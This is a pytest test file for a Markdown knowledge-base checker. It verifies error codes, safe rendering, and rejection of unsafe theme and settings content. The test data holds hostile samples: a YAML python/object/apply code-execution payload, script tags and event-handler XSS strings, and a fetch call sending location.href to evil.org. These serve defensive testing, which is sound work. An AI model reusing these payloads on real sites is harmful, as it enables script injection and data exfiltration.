"""What is asked of whole pages: one cause is told once, wherever else it is felt; sound Markdown is never refused; and
what an engine, plain or started by `kb`, is not given to read.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from kb import cli
from kb.build import build
from kb.engine import last_words
from kb.judgment import judge
from kb.memory import Memory
from kb.pages import read_pages
from kb.problem import Problem
from kb.publish.verify import _FORBIDDEN, _attributes
from tests.sites import SMALL, changed, environment, small_project
from tests.trees import Content, put

GUIDE, TEMPLATE = "docs/guides/touch/crying.md", "docs/templates/referral-mt-to-psychotherapist.md"
TEXT = (SMALL / GUIDE).read_text("utf-8")
ENDING = "status: draft\n---"
PROBE = "docs/about/probe.md"


def page(body: str) -> str:
    return f"---\ntitle: Probe\nsummary: A probe.\n---\n\n{body}\n"


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small site, to be laid over and set right again."""
    return small_project(tmp_path_factory.mktemp("pages") / "project")


def told(root: Path, path: str, content: Content, *, production: bool = False) -> list[Problem]:
    """The errors of a project in which one file is another."""
    before = (root / path).read_bytes() if (root / path).is_file() else None
    written = put(root, path, content)
    try:
        return judge(root, production=production).errors
    finally:
        written.unlink(missing_ok=True)
        if before is not None:
            written.write_bytes(before)


ONE_CAUSE: list[tuple[str, Content, str, int]] = [
    ("an unknown key", TEXT.replace(ENDING, f"colour: red\n{ENDING}"), "KB108", 30),
    ("four hyphens", f"-{TEXT}", "KB301", 1),
    ("a long dash", TEXT.replace("---", "—", 1), "KB301", 1),
    ("UTF-16", TEXT.encode("utf-16"), "KB101", 1),
    ("no front matter", "Words.\n", "KB301", 1),
    ("nothing at all", "", "KB301", 1),
    ("front matter that never closes", TEXT.replace("status: draft\n---\n", "status: draft\n"), "KB301", 1),
    ("front matter twice", f"---\ntitle: Crying\n---\n{TEXT}", "KB301", 4),
    (
        "a merge in front matter",
        TEXT.replace("status: draft", "<<<<<<<< HEAD:a.md\nstatus: draft\n========\nstatus: outline\n>>>>>>>> x:b.md"),
        "KB330",
        30,
    ),
    ("a second title", TEXT.replace("## In short", "# Crying\n\n## In short"), "KB324", 33),
    ("a macro's id with a character that nobody sees", TEXT.replace('"hug-at', '"hug\u200b-at'), "KB102", 59),
    ("a bullet list in a section", TEXT.replace("## Do now", "• Hands.\n• Feet.\n\n## Do now"), "KB327", 39),
    ("an item with a word processor's dash", TEXT.replace("  - she", "  – she", 1), "KB105", 7),
    ("eight steps", TEXT.replace("2. **Say", "2. a\n3. a\n4. a\n5. a\n6. a\n7. a\n8. **Say"), "KB415", 48),
    ("text below the sources", f"{TEXT}\nMore.\n", "KB319", 127),
    ("sources twice", f"{TEXT}\n{{{{ sources() }}}}\n", "KB319", 127),
    ("the whole glossary in a guide", TEXT.replace("## Do now", "{{ glossary() }}\n\n## Do now"), "KB331", 39),
    ("numbers in a table", TEXT.replace("| A hug |", "| {{ crisis() }} |"), "KB331", 59),
    ("the page itself as its next", TEXT.replace("## Do now", '{{ related("crying") }}\n\n## Do now'), "KB207", 39),
    ("a telephone number", TEXT.replace("Hands rest.", "Ring 1-800-555-0100."), "KB118", 35),
    ("a telephone number of another country", TEXT.replace("Hands rest.", "Ring +44 800 555 010."), "KB118", 35),
    ("a short number", TEXT.replace("Hands rest.", "Call or text 988."), "KB118", 35),
    ("a number as a link", TEXT.replace("Hands rest.", "[Call](tel:+15415550100)."), "KB118", 35),
    ("an e-mail address", TEXT.replace("Hands rest.", "Write <bea@example.org>."), "KB118", 35),
    ("a former id that is a case's", TEXT.replace(ENDING, f"formerly: [two-rooms]\n{ENDING}"), "KB119", 30),
    ("its own former id", TEXT.replace(ENDING, f"formerly: [crying]\n{ENDING}"), "KB119", 30),
]


@pytest.mark.usefixtures("small_day")
@pytest.mark.parametrize(("content", "code", "line"), [case[1:] for case in ONE_CAUSE], ids=[c[0] for c in ONE_CAUSE])
def test_one_cause_is_one_problem(content: Content, code: str, line: int, root: Path) -> None:
    found = [p for p in told(root, GUIDE, content) if p.code != "KB401"]  # some keys stand last for brevity
    assert [(p.path, p.line, p.code) for p in found] == [(GUIDE, line, code)]


@pytest.mark.usefixtures("small_day")
def test_two_pages_with_one_id_are_told(root: Path) -> None:
    found = told(root, "docs/guides/scope/crying.md", TEXT)
    assert [(p.path, p.code) for p in found if p.code == "KB119"] == [(GUIDE, "KB119")]
    found = told(root, PROBE, page("Words.").replace("title:", "id: crying\ntitle:"))
    assert [(p.path, p.line, p.code) for p in found] == [(GUIDE, 2, "KB119")]


@pytest.mark.usefixtures("small_day")
def test_an_outline_with_a_wrong_key_owes_no_sections(root: Path) -> None:
    outline = TEXT.partition("## In short")[0].replace("status: draft", "colour: red\nstatus: outline").rstrip() + "\n"
    assert {p.code for p in told(root, GUIDE, outline) if p.path == GUIDE} == {"KB108"}


@pytest.mark.usefixtures("small_day")
def test_a_guide_that_is_too_long_names_its_longest_parts(root: Path) -> None:
    long = TEXT.replace(
        "## What is known {: #what-is-known }\n", f"## What is known {{: #what-is-known }}\n\n{'word ' * 1599}word\n"
    )
    [problem] = [p for p in told(root, GUIDE, long) if p.code == "KB407"]
    assert "its longest sections: what-is-known (" in problem.hint
    words = judge(root).pages.sources["guides/touch/crying.md"].words
    assert problem.hint.startswith(f"take out {words:,} or more, ")


SOUND = {
    "emphasis and signs": "**b** *i* ***bi*** __b__ `c` ``a ` b`` snake_case_name 2*3 a < b > c & d AT&T x&y <3",
    "lists": "- a\n- b\n\n    More of b.\n\n    - c\n        - d\n\nThen:\n\n1. one\n2. two\n\n* x\n+ y\n\nText\n\n - p\n - q\n\nAnd\n\n1. r\n2. s\n\n    More.\n\n3. t\n1992\\. It was",
    "tables": "| a | b |\n|:--|--:|\n| `x|y` | a \\| b |\n| **c** | [d](index.md) |\n| e |\n\na | b\n--- | ---\nc | d",
    "definitions": "Word\n:   What it means.\n\nOther\n:   One.\n:   Two.\n\n    More.",
    "footnotes": "Words.[^1] More.[^long-note]\n\n[^1]: The note.\n[^long-note]: Another.\n\n    With two paragraphs.",
    "code": "```yaml\nid: x\n# comment\n```\n\n~~~\n<script> !!! warning\n~~~\n\n`:smile:` `&#8203;`",
    "braces as text": '{% raw %}\n```\n{{ cite("x") }} {% x %} {# y #}\n```\n{% endraw %}',
    "links": "[a](index.md) [b](index.md#review) [c](https://example.org/a_(b)) [d][r] [r]\n\n[r]: https://example.org/ 'T'",
    "a link with a title that quotes": r'[a](https://example.org/ "x\" onmouseover=\"see href=y")',
    "a link with a query": "[a](index.md?q=x#review)",
    "addresses in angles": "<https://example.org/a?b=c&d> <info@example.org> <mailto:info@example.org>",
    "quotations": "> A quote\n> on two lines\n>\n> > nested\n\n> - list\n> - in it",
    "rules": "a\n\n---\n\nb\n\n***\n\nc",
    "headings": "## A {: #a }\n\n### B\n\n#### C\n\n## The `code` ##\n\n### E {: #e lang=es }\n\nUnderlined\n----------",
    "colons": "At 10:30:15, 2:1, a:b:c, this: that: end, ::before, https://example.org:x",
    "braces": r"The ${x} costs, x{a}, \{ .b \} and \{a\}, a set {a, b} too",
    "brackets": "[sic] (so) (x)[1] Look! [sic] and/or // [1] [a, b] and [[1]](index.md) - [x](index.md)",
    "equal signs": "a == b, a=b, x === y; ~5 minutes or ~10; What!!! Really???",
    "letters": "Café Zoë — “quoted” … 5 µg μg TNFα β-endorphin Москва Ελλάδα 日本語 العربية 🙂 £ ° ½ × → ❤️ 👩‍⚕️ 1️⃣ 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "entities": "&copy; &mdash; &nbsp; &lt;b&gt; &amp; &#39; &hellip; &rarr; &#x2014;",
    "figures": "In 2020-2021, 10.1000/182, 1,600 of 12 345, ISBN 978-3-16-148410-0, 45 C.F.R. 164.512(c).",
    "a language": "*Buenos días*{: lang=es }",
    "blocks": '/// details | T\n    open: True\n\nText\n\n- a\n///\n\n//// note | N\n/// words | W\n"x"\n///\n////',
    "a dash that goes on": "Words that go on\n- so to say - and on.\n\n- One\n  and more:\n- Two\n\n## Then {: #then }\n- Three\n- Four",
    "a sheet": '/// sheet\n# Title\n{{ field("It\'s") }} {{ choice("a b", \'c\') }}\n\n{{ signature("Client") }}\n///',
    "macros": 'Words {{ term("transference") }}, {{ scope("hug-at-parting") }}.\n\n{{ related("crying", "two-rooms") }}',
    "a macro in a table": '| a |\n|---|\n| {{ term("transference", "a | b") }} |',
}


def test_sound_markdown_is_neither_refused_nor_fails_later(tmp_path: Path, small_day: None) -> None:
    root = small_project(tmp_path / "project")
    for number, body in enumerate(SOUND.values()):
        put(root, f"docs/about/probe-{number}.md", page(body).replace("Probe", f"Probe {number}"))
    changed(root / TEMPLATE, "status: draft", "status: outline")
    result = build(root)
    assert [p for p in result.judgment.problems if "probe" in p.path] == []
    assert result.failure == ""

    def built(address: str) -> str:
        return (root / "site" / address / "index.html").read_text("utf-8")

    mailboxes = built(f"about/probe-{list(SOUND).index('addresses in angles')}")
    assert mailboxes.count('href="&#109;&#97;&#105;&#108;&#116;&#111;&#58;') == 2
    outline = built("templates/referral-mt-to-psychotherapist")
    assert "<b>Outline.</b>" in outline and "<b>Draft.</b>" not in outline
    assert "<b>Outline, unfinished.</b>" in built("templates")


def test_numbers_and_addresses_may_stand_on_other_pages(root: Path, small_day: None) -> None:
    assert told(root, PROBE, page("Call 1-800-555-0100, or write <info@example.org>.")) == []


@pytest.mark.usefixtures("small_day")
@pytest.mark.parametrize("words", ['{{ person("sample-ana-example") }}', "[Ana](/directory/sample-ana-example/)"])
def test_a_sample_is_nothing_to_lead_to_in_production(words: str, root: Path) -> None:
    assert told(root, PROBE, page(words)) == []
    assert [(p.path, p.line, p.code) for p in told(root, PROBE, page(words), production=True)] == [(PROBE, 6, "KB511")]


def test_a_page_that_cannot_be_read_is_known_to_be_there(root: Path) -> None:
    before = (root / GUIDE).read_bytes()
    put(root, GUIDE, b"\xff")
    pages, _ = read_pages(root)
    (root / GUIDE).write_bytes(before)
    assert pages.unread == {"guides/touch/crying.md"}
    assert "crying" in pages.written_ids("guide") and "crying" in pages.written_ids("page")


# --- settings and theme ----------------------------------------------------------------------------------------


def test_settings_that_run_a_program_are_told_and_never_given_to_an_engine(project: Path) -> None:
    trap = project / "trap"
    with (project / "mkdocs.yml").open("a", encoding="utf-8") as settings:
        settings.write(f"\nextra:\n  x: !!python/object/apply:os.mkdir [{trap.as_posix()}]\n")
    result = build(project)
    assert [(p.path, p.code) for p in result.judgment.errors] == [("mkdocs.yml", "KB107")]
    assert not trap.exists()


@pytest.mark.usefixtures("small_day")
def test_navigation_names_pages_that_exist(project: Path) -> None:
    changed(
        project / "mkdocs.yml",
        "  - scope.md",
        "  - Scope:\n      - Matrix: scop.md\n      - Elsewhere: https://example.org/",
    )
    [problem] = judge(project).errors
    assert (problem.path, problem.code, problem.hint) == ("mkdocs.yml", "KB307", "did you mean 'scope.md'?")


BASE = "overrides/base.html"
SHEET, PROGRAM = "overrides/assets/kb/css/blocks.css", "overrides/assets/kb/address.js"
_FOREIGN = '<link rel="stylesheet" href="https://fonts.googleapis.com/css?x">'
THEME = [  # (file, what is written there, what instead; nothing empties or deletes it), and what is told
    (BASE, "", "", BASE, "KB121", "is empty"),
    (BASE, "{% block content %}", "{% block contents %}", BASE, "KB332", "did you mean 'contents'?"),
    ("overrides/404.html", "{% block content %}", "{% block contant %}", "overrides/404.html", "KB332", "'content'?"),
    (BASE, "</head>", "{{ nonexistent.foo }}</head>", BASE, "KB332", "uses 'nonexistent'"),
    (BASE, "</head>", f"{_FOREIGN}</head>", BASE, "KB332", "loads 'https://fonts.googleapis.com/css?x'"),
    (BASE, "</head>", '<a href="https://example.org/">a</a>{# <style> #}</head>', "", "", ""),
    (BASE, "</head>", "<style>a { color: red }</style></head>", BASE, "KB332", "holds a style element"),
    (BASE, "</head>", "<script>alert(1)</script></head>", BASE, "KB332", "holds a program"),
    (BASE, "</head>", "<b\n onclick='x'>a</b></head>", BASE, "KB332", "holds an attribute that runs a program"),
    (SHEET, "@layer", "/* url(//a.org/b) */ @layer", "", "", ""),
    (SHEET, "@layer", '@import url("https://evil.org/a.css"); @layer', SHEET, "KB332", "'https://evil.org/a.css'"),
    (SHEET, "@layer", "@font-face { src: URL( //evil.org/p ) } @layer", SHEET, "KB332", "loads '//evil.org/p'"),
    (
        PROGRAM,
        "const query",
        'fetch("https://evil.org/" + location.href); const query',
        PROGRAM,
        "KB332",
        "loads 'https://evil",
    ),
    (
        PROGRAM,
        "const query",
        'import "https://evil.org/x.js"; import',
        PROGRAM,
        "KB332",
        "loads 'https://evil.org/x.js'",
    ),
    (PROGRAM, "const query", 'const a = "https://example.org/"; import', "", "", ""),
    (BASE, "| url", "| urll", BASE, "KB332", "uses the filter 'urll'"),
    (BASE, "</head>", "\n<<<<<<< HEAD\n</head>", BASE, "KB330", "a mark that a merge left"),
    (SHEET, "@layer", "=======\n>>>>>>> x\n@layer", SHEET, "KB330", "'>>>>>>> x'"),
    (SHEET, "@layer", ".a { content: '}' @layer", SHEET, "KB332", "has a { without its pair"),
    (SHEET, "@layer", ".a { content: '}' /* { */ } @layer", "", "", ""),
    ("overrides/assets/kb/mark.svg", None, "", "overrides/assets/kb/mark.svg", "KB121", "sheet.css' takes it"),
    (PROGRAM, None, "", PROGRAM, "KB121", "' takes it"),
    ("overrides/assets/kb/css/tokens.css", "", "", "overrides/assets/kb/css/tokens.css", "KB121", "bring it back"),
    (
        "overrides/assets/kb/css",
        "",
        "",
        "overrides/assets/kb/css",
        "KB121",
        "git checkout HEAD -- overrides/assets/kb/css",
    ),
    ("overrides/assets/kb", "", "", "overrides/assets/kb", "KB121", "git checkout HEAD -- overrides/assets/kb "),
    (BASE, None, "", BASE, "KB121", "is missing"),
]


@pytest.mark.usefixtures("small_day")
def test_a_theme_that_is_broken_is_told_once(project: Path) -> None:
    memory, kept = Memory(), project.parent / "kept"
    shutil.copytree(project / "overrides", kept)
    for file, written, instead, path, code, said in THEME:
        if written:
            changed(project / file, written, instead)
        elif (project / file).is_dir():
            shutil.rmtree(project / file)
        elif written is None or file.endswith(".css"):
            (project / file).unlink()
        else:
            (project / file).write_text("\n")
        found = judge(project, memory=memory).errors
        assert [(p.path, p.code) for p in found] == ([(path, code)] if code else []), (file, instead)
        assert all(said in f"{p.message} {p.hint}" for p in found), found
        shutil.rmtree(project / "overrides")
        shutil.copytree(kept, project / "overrides")
    (project / "overrides").rename(project / "elsewhere")
    assert [(p.path, p.code) for p in judge(project).errors] == [("mkdocs.yml", "KB121")]


def test_what_fails_in_the_engine_is_said_without_its_inner_workings() -> None:
    said = [
        "ERROR   -  Error building page 'crisis.md': No filter named 'unheard'.",
        "Traceback (most recent call last):",
        '  File "build.py", line 3, in build',
        "    template.render()",
        "",
        "jinja2.exceptions.TemplateAssertionError: No filter named 'unheard'.",
        "Aborted",
    ]
    assert last_words(said) == [said[0], said[-2], said[-1]]


# --- plain mkdocs ----------------------------------------------------------------------------------------------


def mkdocs(root: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "mkdocs", "build", "--strict"]
    return subprocess.run(
        command, cwd=root, env=environment(root), capture_output=True, text=True, encoding="utf-8", check=False
    )


def test_plain_mkdocs_leaves_the_site_alone_where_the_check_refuses(project: Path) -> None:
    put(project, "site/index.html", "the site of yesterday")
    put(project, PROBE, page("<script>alert(1)</script>"))
    done = mkdocs(project)
    assert done.returncode == 1
    assert f"{PROBE}:6:1: KB313" in done.stderr and "Traceback" not in done.stderr
    assert [path.name for path in (project / "site").iterdir()] == ["index.html"]


def test_plain_mkdocs_leaves_nothing_of_a_site_that_verify_refuses(project: Path) -> None:
    foreign = '<link rel="stylesheet" href="{{ "https:" }}//fonts.example.com/a">'  # as no template is read for
    changed(project / "overrides" / "base.html", "</body>", f'<b {{{{ "on" }}}}click=x>y</b>{foreign}</body>')
    done = mkdocs(project)
    assert done.returncode == 1 and "an event attribute" in done.stderr
    assert "something that is loaded from another site" in done.stderr
    assert list((project / "site").iterdir()) == []


# --- small things ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "is_attribute"),
    [
        ('<a href="x" title="a onclick=b">c</a>', False),
        ('<a title="x>y onclick=b" href="x">c</a>', False),
        ("<p>based on x = y</p>", False),
        ('<a href="x" onclick="b">c</a>', True),
        ("<a title='\"' onclick=b>c</a>", True),
        ('<a b=c"d onclick=e>f</a>', True),
        ('<a href="x"onclick=b>c</a>', True),
        ("<svg/onload=x>", True),
    ],
)
def test_verify_tells_attributes_from_words(html: str, is_attribute: bool) -> None:
    assert bool(list(_attributes(html, _FORBIDDEN[0][1]))) is is_attribute


def test_what_is_not_judged_is_said_to_be_not_judged(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    put(project, "README.md", "Words.\n")
    put(project, "data/README.md", "Words.\n")
    monkeypatch.setenv("KB_ROOT", str(project))
    monkeypatch.chdir(project)
    assert cli.main(["check", "README.md"]) == 2
    assert (
        capsys.readouterr().err
        == "kb check: README.md is not judged; what is: data, docs, mkdocs.yml, overrides, CITATION.cff\n"
    )
    assert cli.main(["check", "data/README.md"]) == 2
    assert (
        capsys.readouterr().err
        == "kb check: data/README.md is not judged: python3 scripts/run.py export schema writes it\n"
    )
    assert cli.main(["check", "README.md", "docs"]) == 0
    assert capsys.readouterr().err.endswith("clean: docs\n")
